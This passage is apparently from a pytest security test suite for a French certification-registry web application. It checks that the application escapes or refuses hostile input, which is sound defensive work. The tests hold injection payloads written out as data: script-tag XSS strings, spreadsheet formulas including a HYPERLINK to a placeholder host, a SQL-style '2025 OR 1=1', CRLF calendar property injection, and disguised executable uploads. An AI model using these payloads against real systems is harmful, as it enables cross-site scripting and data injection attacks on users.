    page = response.content.decode()
    alert = re.search(r'<div class="fr-alert fr-alert--error[^"]*" role="alert">(.*?)</div>', page, re.S)
    assert alert and "aucun questionnaire n’a été enregistré" in alert.group(1)
    assert reason in html.unescape(alert.group(1)), alert.group(1)
    assert "<script>alert(1)</script>" not in page
    assert (Response.objects.count(), AnswerImport.objects.count()) == (0, 0)


def test_a_huge_csv_is_refused_by_its_size_before_being_read(login, settings, monkeypatch):
    from surveys.models import Response
    from tests.surveys.factories import CampaignFactory

    settings.UPLOAD_MAX_BYTES = 10_000
    user = UserFactory(candidate=True)
    campaign = CampaignFactory(local_service=user.memberships.get().local_service)
    upload = SimpleUploadedFile("reponses.csv", (_answers_header() + "\n").encode() * 1000)
    for reader in ("_fast_blocks", "_parse"):
        monkeypatch.setattr(f"surveys.imports.{reader}", lambda *args: pytest.fail("the file was parsed"))
    response = login(user).post(reverse("surveys:campaign_import", args=[campaign.pk]), {"file": upload})
    assert "dépasse la taille maximale" in response.content.decode()
    assert not Response.objects.exists()


# --- Formula injection in the CSV files the platform produces -------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example";"clic")', "+33 1 02 03", "-2+3", "@SUM(A1)"]


def _hostile_label():
    from tests.candidates.factories import LocalServiceFactory
    from tests.decisions.factories import LabelFactory
    from tests.registry.factories import CertificationBodyFactory

    body = CertificationBodyFactory(name=FORMULAS[3])
    local = LocalServiceFactory(name=FORMULAS[0], city=FORMULAS[1])
    return LabelFactory(
        decision__application__local_service=local,
        decision__application__contract__local_service=local,
        decision__application__contract__certification_body=body,
    )


def _cells(response) -> list[str]:
    import csv
    import io

    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [
        cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row
    ]


def test_the_registry_export_neutralises_formulas(client):
    _hostile_label()
    cells = _cells(client.get(reverse("registre:export_csv")))
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells and "'" + FORMULAS[3] in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_every_statistics_csv_neutralises_formulas(login):
    from registry import stats

    _hostile_label()
    client = login(MembershipFactory(role=Role.DITP).user)
    for table in stats.TABLES:
        cells = _cells(client.get(reverse("statistiques:table_csv", args=[table])))
        assert cells, table
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], table


# --- HTML and script in text fields: saved through the real views, always escaped where shown -----------------------

ESCAPED = html.escape(SCRIPT, quote=False)[:40]  # "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img…"

TEXT_FIELDS = [
    (suspension_form, "details"),
    (withdrawal_form, "details"),
    (habilitation_grant_form, "reason"),
    (audit_plan_form, "resource_persons"),
    (audit_plan_form, "agenda"),
    (campaign_form, "sampling_method"),
    (application_form, "self_assessment_summary"),
    (registration_form, "name"),
    (registration_form, "city"),
    (registration_form, "sites-0-name"),
    (registration_form, "contact_name"),
    (site_add_form, "name"),
    (site_add_form, "city"),
    (site_edit_form, "name"),
    (site_edit_form, "city"),
    (eligibility_request_form, "service_name"),
    (eligibility_request_form, "proposed_category"),
    (eligibility_request_form, "justification"),
    (eligibility_decline_form, "reason"),
    (eligibility_accept_form, "category_name"),
    (eligibility_refuse_form, "reason"),
    (review_form, "message"),
    (review_form, "complete_comment"),
    (report_form, "report_presentation"),
    (report_form, "report_synthesis"),
    (report_form, "report_illustrations"),
    (report_form, "report_strengths"),
    (report_form, "report_improvements"),
    (closing_meeting_form, "closing_summary"),
    (observation_form, "text"),
    (corrective_action_form, "proposal"),
    (corrective_judgement_form, "judgement_comment"),
    (action_plan_form, "summary"),
    (appeal_form, "grounds"),
    (appeal_record_form, "committee_opinion"),
    (habilitation_suspend_form, "reason"),
    (habilitation_withdraw_form, "reason"),
    (habilitation_renew_form, "reason"),
    (habilitation_lift_form, "reason"),
    (perimeter_form, "other_detail"),
    (close_form, "reason"),
    (withdraw_form, "reason"),
]


@pytest.mark.parametrize(("form", "name"), TEXT_FIELDS, ids=[f"{f.__name__}-{n}" for f, n in TEXT_FIELDS])
def test_html_in_a_text_field_is_saved_as_text_and_shown_escaped(login, form, name):
    target = form(login)
    response = target.client.post(target.url, {**target.data, target.key(name): SCRIPT}, follow=True)
    assert response.status_code == 200
    assert response.redirect_chain, f"the form was refused: {_errors(response.content.decode())}"
    landing = response.content.decode()
    assert SCRIPT not in landing and "<script>alert(1)" not in landing and "onerror=alert(1)>" not in landing
    pages = {response.redirect_chain[-1][0]: landing}
    if shown_on := target.shown_on(name):
        pages = {url: login(user).get(url) for user, url in shown_on}
        assert all(page.status_code == 200 for page in pages.values()), pages
        pages = {url: page.content.decode() for url, page in pages.items()}
    for url, page in pages.items():
        assert SCRIPT not in page and "<script>alert(1)" not in page and "onerror=alert(1)>" not in page, url
        assert ESCAPED in page, f"{name} is not shown on {url} after saving"


def _errors(page: str) -> list[str]:
    return [
        " ".join(re.sub(r"<[^>]+>", " ", e).split())
        for e in re.findall(r'class="fr-error-text"[^>]*>(.*?)</', page, re.S)
    ]


def test_a_message_with_html_is_escaped_on_the_thread_and_in_the_html_email(login, mailoutbox):
    from tests.candidates.factories import ApplicationFactory

    user = UserFactory(candidate=True)
    application = ApplicationFactory(
        contract__local_service=user.memberships.get().local_service, status="submitted"
    )
    MembershipFactory(role=Role.CB_MANAGER, organisation=application.certification_body)
    url = reverse("candidates:message_post", args=[application.pk])
    response = login(user).post(url, {"body": SCRIPT}, follow=True)
    page = response.content.decode()
    assert SCRIPT not in page and ESCAPED in page
    for message in mailoutbox:
        for body, kind in getattr(message, "alternatives", []):
            if kind == "text/html":
                assert SCRIPT not in body


def test_a_service_named_with_html_is_escaped_in_the_registry_pages_api_and_feeds(client):
    import xml.dom.minidom

    from tests.candidates.factories import LocalServiceFactory
    from tests.decisions.factories import LabelFactory

    local = LocalServiceFactory(name=SCRIPT, city=SCRIPT)
    LabelFactory(
        decision__application__local_service=local, decision__application__contract__local_service=local
    )
    for url in (
        reverse("registre:list"),
        reverse("registre:list") + "?q=script",
        reverse("registre:service", args=[local.siret]),
    ):
        page = client.get(url).content.decode()
        assert SCRIPT not in page and "<script>alert(1)" not in page, url
        assert ESCAPED in page, url
    api = client.get("/api/v1/labels/")
    # JSON, never HTML: the name round-trips as data, and the browser is told not to sniff it.
    assert api["Content-Type"].startswith("application/json")
    assert [row["nom"] for row in api.json()["results"]] == [SCRIPT]
    feed = client.get(reverse("registre:feed"))
    document = xml.dom.minidom.parseString(feed.content)  # noqa: S318 -- our own feed; well-formed: escaped
    assert "<script>" not in feed.content.decode() and document.documentElement.tagName == "feed"


# --- Hostile files at the other upload points: the DITP's JSON files, the invitation address file -----------------


def grid_upload(login):
    from audits.models import AuditGrid, Checkpoint

    client = login(UserFactory(ditp=True))
    url = reverse("audits:grid_list")
    return Upload(
        post=lambda upload: client.post(url, {"kind": "local", "file": upload}),
        error=lambda response: _error_next_to(response.content.decode(), "id_file"),
        rows=lambda: (AuditGrid.objects.count(), Checkpoint.objects.count()),
    )


def questionnaire_upload(login):
    from surveys.models import Question, Questionnaire

    client = login(UserFactory(ditp=True))
    url = reverse("surveys:questionnaire_list")
    return Upload(
        post=lambda upload: client.post(url, {"kind": "users", "file": upload}),
        error=lambda response: _error_next_to(response.content.decode(), "id_file"),
        rows=lambda: (Questionnaire.objects.count(), Question.objects.count()),
    )


def invitation_file(login):
    from surveys.models import Invitation
    from tests.surveys.factories import CampaignFactory

    user = UserFactory(candidate=True)
    campaign = CampaignFactory(local_service=user.memberships.get().local_service)
    client = login(user)
    url = reverse("surveys:invitation_list", args=[campaign.pk])
    return Upload(
        post=lambda upload: client.post(url, {"emails": "", "file": upload}),
        error=lambda response: _error_next_to(response.content.decode(), "id_file"),
        rows=lambda: Invitation.objects.count(),
    )


NOT_JSON = "Le fichier doit être un fichier texte JSON"
NOT_TEXT = "n’est pas un fichier texte"
# (file name, content, {upload point: the words of the message expected next to the field}).
HOSTILE_DATA_FILES = {
    "executable renamed": ("liste.json", HOSTILE_FILES["PE/MZ renamed .png"][1], NOT_JSON, NOT_TEXT),
    "ELF renamed": ("liste.csv", HOSTILE_FILES["ELF renamed .pdf"][1], NOT_JSON, NOT_TEXT),
    "PDF renamed": ("liste.json", PDF, NOT_JSON, NOT_TEXT),
    "HTML": ("liste.json", f"<!DOCTYPE html><html><body>{SCRIPT}</body></html>".encode(), NOT_JSON, NOT_TEXT),
    "invalid JSON": ("liste.json", b'{"kind": "local", "title": }', "n’est pas un JSON valide", None),
    "JSON nested 100,000 deep": ("liste.json", b"[" * 100_000 + b"]" * 100_000, "trop imbriqué", None),
    "Latin-1 text": ("liste.json", '{"title": "Qualité é"}'.encode("latin-1"), "pas encodé en UTF-8", None),
    "UTF-16 text": ("liste.txt", "anne@example.org\n".encode("utf-16"), "pas encodé en UTF-8", NOT_TEXT),
    "over the size limit": (
        "liste.json",
        b" " * (2 * 1024 * 1024 + 1) + b"{}",
        "dépasse la taille",
        "dépasse",
    ),
    "empty": ("liste.json", b"", "est vide", "est vide"),
}
DATA_UPLOADS = {
    grid_upload: 2,
    questionnaire_upload: 2,
    invitation_file: 3,
}  # the column of the expected reason
DATA_FILE_CASES = [
    (upload_input, name)
    for name, case in HOSTILE_DATA_FILES.items()
    for upload_input, column in DATA_UPLOADS.items()
    if case[column] is not None
]


@pytest.mark.parametrize(
    ("upload_input", "name"), DATA_FILE_CASES, ids=[f"{f.__name__}-{n}" for f, n in DATA_FILE_CASES]
)
def test_a_hostile_data_file_is_refused_next_to_its_field_and_nothing_is_saved(login, upload_input, name):
    filename, content = HOSTILE_DATA_FILES[name][:2]
    reason = HOSTILE_DATA_FILES[name][DATA_UPLOADS[upload_input]]
    target = upload_input(login)
    before = target.rows()
    response = target.post(SimpleUploadedFile(filename, content, content_type="application/json"))
    assert response.status_code == 200, response.status_code
    error = target.error(response)
    assert error, "no error next to the file field"
    assert reason in error, error
    assert SCRIPT not in response.content.decode() and "<script>" not in error
    assert target.rows() == before


# --- The statistics' year filter (registry/views/stats.py): only the offered years, else the last 24 months -------

BAD_YEARS = {
    "not offered (last century)": "1999",
    "next year": str(TODAY.year + 1),
    "zero": "0",
    "negative": "-2025",
    "huge": "9" * 40,
    "exponent": "2e3",
    "decimal": "2025,0",
    "text": "deux-mille",
    "SQL": "2025 OR 1=1",
    "html": SCRIPT,
    "NUL byte": "2025\x00",
    "full-width digits": "２０２５",
}


@pytest.mark.parametrize("value", BAD_YEARS.values(), ids=BAD_YEARS.keys())
def test_a_hostile_year_filter_shows_the_last_24_months_and_a_message(login, value):
    client = login(MembershipFactory(role=Role.DITP).user)
    response = client.get(reverse("statistiques:dashboard"), {"annee": value})
    assert response.status_code == 200, response.status_code
    assert response.context["period"].year is None
    error = _error_next_to(response.content.decode(), "id_annee")
    assert error and "choix valide" in error, error
    assert SCRIPT not in response.content.decode()
    csv_response = client.get(reverse("statistiques:table_csv", args=["paliers"]), {"annee": value})
    assert csv_response.status_code == 400, csv_response.status_code


# --- The iCalendar feed (labelsp/deadlines/ical.py): a name cannot inject a property -------------------------------


def test_a_hostile_service_name_cannot_inject_a_property_into_the_calendar_feed(login, client):
    from django.contrib.contenttypes.models import ContentType

    from labelsp.deadlines.enums import Actor, DeadlineKind
    from labelsp.deadlines.models import CalendarFeed, Deadline
    from tests.candidates.factories import LocalServiceFactory
    from tests.decisions.factories import LabelFactory

    name = f"{SCRIPT}\r\nATTENDEE:mailto:evil@example.org\nBEGIN:VALARM;x,y\\z\rEND:VEVENT"
    local = LocalServiceFactory(name=name)
    label = LabelFactory(decision__application__contract__local_service=local)
    Deadline.objects.create(
        key=f"label:{label.pk}:hostile",
        kind=DeadlineKind.FOLLOW_UP_AUDIT,
        subject_type=ContentType.objects.get_for_model(label),
        subject_id=label.pk,
        local_service=label.local_service,
        certification_body=label.certification_body,
        actor=Actor.CANDIDATE,
        due_on=TODAY + datetime.timedelta(days=30),
    )
    user = MembershipFactory(role=Role.CANDIDATE, organisation=label.local_service).user
    login(user).post(reverse("deadlines:calendar_feed_create"))
    client.logout()
    response = client.get(
        reverse("deadlines:calendar_feed", args=[CalendarFeed.objects.get(user=user).token])
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert "\n" not in text.replace("\r\n", "") and "\r" not in text.replace("\r\n", "")
    unfolded = text.replace("\r\n ", "")
    lines = unfolded.split("\r\n")
    # Every line is a known property: the name stayed inside SUMMARY's value.
    names = {re.split(r"[:;]", line, maxsplit=1)[0] for line in lines if line}
    assert names <= {
        "BEGIN",
        "END",
        "VERSION",
        "PRODID",
        "CALSCALE",
        "METHOD",
        "X-WR-CALNAME",
        "UID",
        "DTSTAMP",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "DESCRIPTION",
        "URL",
        "TRANSP",
    }, names
    assert lines.count("BEGIN:VEVENT") == 1 and lines.count("END:VEVENT") == 1
    [summary] = [line for line in lines if line.startswith("SUMMARY:")]
    assert summary.endswith("\\nATTENDEE:mailto:evil@example.org\\nBEGIN:VALARM\\;x\\,y\\\\z\\nEND:VEVENT"), (
        summary
    )


def test_a_central_service_named_with_html_is_escaped_where_its_network_is_shown(login):
    """Central services are created by the DITP (no form): their names still reach the forms' choices and pages."""
    from tests.candidates.factories import CentralServiceFactory, EligibleCategoryFactory, LocalServiceFactory

    central = CentralServiceFactory(name=SCRIPT, network_name=SCRIPT)
    EligibleCategoryFactory()
    LocalServiceFactory(parent=central, name="Agence de Villeurbanne")
    pages = [
        (UserFactory(), reverse("candidates:register")),
        (UserFactory(candidate=True), reverse("candidates:eligibility_create")),
        (
            MembershipFactory(role=Role.CENTRAL, organisation=central).user,
            reverse("candidates:central_service_detail", args=[central.pk]),
        ),
        (
            MembershipFactory(role=Role.DITP).user,
            reverse("candidates:central_service_detail", args=[central.pk]),
        ),
    ]
    for user, url in pages:
        response = login(user).get(url)
        assert response.status_code == 200, url
        page = response.content.decode()
        assert SCRIPT not in page and "<script>alert(1)" not in page and "onerror=alert(1)>" not in page, url
        assert ESCAPED in page, url


# JSON escapes (\u003c) carry HTML past the content check: the texts of a published grid or questionnaire are data.
PUBLISHED_DOCUMENTS = {
    "grid": ("tests.audits.test_grids", "local_doc", "audits:grid_list", "local"),
    "questionnaire": (
        "tests.surveys.test_questionnaires",
        "users_doc",
        "surveys:questionnaire_list",
        "users",
    ),
}


@pytest.mark.parametrize("kind", PUBLISHED_DOCUMENTS, ids=PUBLISHED_DOCUMENTS.keys())
def test_html_in_a_published_json_document_is_shown_escaped(login, kind):
    import importlib
    import json

    module, example, list_url, document_kind = PUBLISHED_DOCUMENTS[kind]
    document = getattr(importlib.import_module(module), example)()
    document["title"] = SCRIPT
    data = json.dumps(document).replace("<", "\\u003c").replace(">", "\\u003e").encode()
    assert b"<" not in data
    client = login(UserFactory(ditp=True))
    response = client.post(
        reverse(list_url),
        {
            "kind": document_kind,
            "file": SimpleUploadedFile("doc.json", data, content_type="application/json"),
        },
        follow=True,
    )
    assert response.redirect_chain, _errors(response.content.decode())
    for page in (response.content.decode(), client.get(reverse(list_url)).content.decode()):
        assert SCRIPT not in page and "<script>alert(1)" not in page and "onerror=alert(1)>" not in page
        assert ESCAPED in page
